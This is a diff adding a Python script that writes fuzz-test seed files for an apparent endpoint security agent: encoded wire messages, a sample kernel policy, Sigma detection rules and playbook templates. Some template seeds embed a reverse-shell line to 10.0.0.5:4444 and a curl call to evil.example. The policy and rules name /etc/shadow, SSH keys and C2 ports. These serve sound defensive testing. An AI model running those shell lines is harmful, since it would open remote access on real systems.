@@ -1,0 +1,148 @@
+"""Write the seed corpus of each fuzz target from the real code: frames the
+codecs encode, the shipped policy, rules and playbooks, the templates the
+playbooks use.  ``.venv/bin/python -m tests.fuzz.seeds`` rewrites
+``tests/fuzz/corpus/``; the files are committed, so a seed stays the same
+bytes when the code it came from changes."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import node
+import wire
+from hive.playbook import DEFAULT_PLAYBOOKS
+from hive.sigma import BUILTIN_RULES
+from kmod import DEFAULT_POLICY
+from tests.fuzz import targets as t
+from tests.fuzz.targets import CORPUS
+
+
+POLICY_EVERY_HOOK = b'''version = 1
+[guard]
+unhashed = "allow"
+hash_max_mb = 32
+
+[[rule]]
+name = "no-tmp-exec"
+hook = "exec"
+action = "block"
+match = { path = ["/tmp/**", "/dev/shm/*.sh"] }
+
+[[rule]]
+name = "bad-binary"
+hook = "exec"
+action = "block"
+match = { sha256 = ["''' + b"ab" * 32 + b'''"] }
+
+[[rule]]
+name = "shadow"
+hook = "open"
+action = "audit"
+match = { path = ["/etc/shadow", "/etc/ssh/*_key", "/root/.ssh/**"] }
+
+[[rule]]
+name = "c2"
+hook = "connect"
+action = "block"
+match = { address = ["10.0.0.0/8", "2001:db8::/32"], port = [4444, "6660-6669"], protocol = "tcp" }
+
+[[rule]]
+name = "listen"
+hook = "bind"
+action = "audit"
+match = { port = 31337 }
+
+[[rule]]
+name = "root"
+hook = "setid"
+action = "audit"
+match = { call = ["setuid", "setresuid"], id = [0] }
+
+[[rule]]
+name = "forks"
+hook = "fork"
+action = "audit"
+'''
+
+CORRELATION_RULE = b'''title: Many shadow reads
+id: 5f0c7a52-1111-4c5e-9f43-2b8a0d1e0c01
+name: shadow_reads
+status: test
+logsource: {product: linux, category: file_access}
+detection:
+  selection:
+    TargetFilename|endswith: /shadow
+    Image|re: '^/usr/bin/(cat|less|python[0-9.]*)$'
+  condition: selection
+level: medium
+---
+title: Shadow read burst
+id: 5f0c7a52-2222-4c5e-9f43-2b8a0d1e0c02
+correlation:
+  type: event_count
+  rules: [shadow_reads]
+  group-by: [Agent, User]
+  timespan: 5m
+  condition: {gte: 3}
+level: high
+'''
+
+TEMPLATES = [
+    b"{{ event.pid }}\x00bash",
+    b"{{ alert.agent }}",
+    b"kill {{ event.pid | int }} on {{ alert.agent | lower }}\x00x",
+    b"{{ event.cmdline | regex('([0-9]{1,3}(?:[.][0-9]{1,3}){3})') | default('') }}"
+    b"\x00bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
+    b"{{ alert.events.0.argv.1 | regex('https?://([^/]+)', 1) }}\x00curl http://evil.example/x",
+    b"{{ vars.webhook | default('none') | str }}/{{ playbook.id }}",
+    b"{{ event.missing | default(0) }}",
+]
+
+
+def write_seeds() -> None:
+    seeds: dict[str, dict[str, bytes]] = {
+        "agent_message": {
+            "batch": t.agent_codec().encode(wire.EventBatch(seq=1, stream="a1b2", events=list(t.events()))),
+            "batch-one-open": t.agent_codec().encode(wire.EventBatch(seq=7, events=[wire.Open(path="/etc/shadow")])),
+            "hello": t.agent_codec().encode(wire.Hello(agent="web-1", hostname="web-1", addresses=["10.0.0.2"],
+                                                     os="Linux", kernel="6.18", pid=321)),
+            "heartbeat": t.agent_codec().encode(wire.Heartbeat(time=1, spooled=10, dropped=2)),
+            "result": t.agent_codec().encode(wire.CommandResult(command="c-1", ok=True, detail="killed",
+                                                              data={"pids": [1, 2], "tree": {"x": 1.5}})),
+        },
+        "hive_message": {
+            "ack": t.hive_codec().encode(wire.Ack(seq=3, stream="a1b2")),
+            "kill": t.hive_codec().encode(wire.KillProcess(id="c-1", pid=4242, tree=True)),
+            "block-exec": t.hive_codec().encode(wire.BlockExec(id="c-2", path="/tmp/x.sh", ttl=600.0)),
+            "block-connect": t.hive_codec().encode(wire.BlockConnect(id="c-3", address="10.0.0.5", port=[4444, 4445], protocol="tcp")),
+            "isolate": t.hive_codec().encode(wire.IsolateHost(id="c-4", allow=["10.1.0.0/16"])),
+            "unblock": t.hive_codec().encode(wire.Unblock(id="c-5", rule="resp-c-2")),
+            "quarantine": t.hive_codec().encode(wire.QuarantineFile(id="c-6", path="/tmp/x.sh")),
+            "evidence": t.hive_codec().encode(wire.CollectEvidence(id="c-7", pid=4242, exe=True)),
+        },
+        "enroll": {
+            "live-token": t.enroll_codec().encode(wire.Enroll(token=t.TOKEN, agent="web-1")),
+            "unknown-token": t.enroll_codec().encode(wire.Enroll(token="0123456789abcdef", agent="db-2")),
+        },
+        "policy": {"default": DEFAULT_POLICY.read_bytes(), "every-hook": POLICY_EVERY_HOOK},
+        "sigma": {f"{p.parent.name}-{p.name}": p.read_bytes() for p in sorted(BUILTIN_RULES.rglob("*.yml"))},
+        "playbook": {p.name: p.read_bytes() for p in sorted(DEFAULT_PLAYBOOKS.glob("*.yml"))},
+        "template": {f"t{i}": text for i, text in enumerate(TEMPLATES)},
+        "config": {"example": (Path(node.__file__).parent / "immune.example.toml").read_bytes(),
+                   "agent": b'[node]\ndata = "/var/lib/immune-agent"\n[agent]\nid = "web-1"\nhive = "tcp://10.0.0.1:7400"\n'
+                            b'batch = 512\n[sensor]\nscope = "cgroup:/system.slice"\nfold_ms = 0\n',
+                   "hive": b'[hive]\nlisten = "tcp://[::]:7400"\nrules = ["/etc/immune/rules"]\n'
+                           b'webhook = "https://soc.example/hook"\nmax_frame = 1048576\nretention_days = 7.5\n'},
+    }
+    seeds["sigma"]["correlation"] = CORRELATION_RULE
+    for target, files in seeds.items():
+        folder = CORPUS / target
+        shutil.rmtree(folder, ignore_errors=True)
+        folder.mkdir(parents=True)
+        for name, data in files.items():
+            (folder / name).write_bytes(data)
+
+
+if __name__ == "__main__":
+    write_seeds()
